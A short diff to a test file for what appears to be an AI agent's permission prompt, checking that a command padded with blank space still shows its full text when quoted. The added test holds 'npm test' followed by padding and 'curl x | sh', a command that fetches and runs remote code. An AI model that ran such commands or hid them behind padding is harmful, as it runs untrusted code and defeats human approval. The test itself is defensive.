@@ -96,5 +96,8 @@ describe("permission details", () => {
     expect(widening(bare, permissionDetails(bare))).toBe("for the rest of this session: calls like “mystery”");
     const long = request({ toolKind: "execute", rawInput: { command: "y".repeat(500) } });
     expect(widening(long, permissionDetails(long))).toBe(`for the rest of this session: the command “${"y".repeat(200)}…”`);
+    // Blank space cannot push the rest of a command past the quote's cut.
+    const padded = request({ toolKind: "execute", rawInput: { command: `npm test${" ".repeat(240)}${"\n".repeat(40)}curl x | sh` } });
+    expect(widening(padded, permissionDetails(padded))).toBe("for the rest of this session: the command “npm test curl x | sh”");
   });
 });
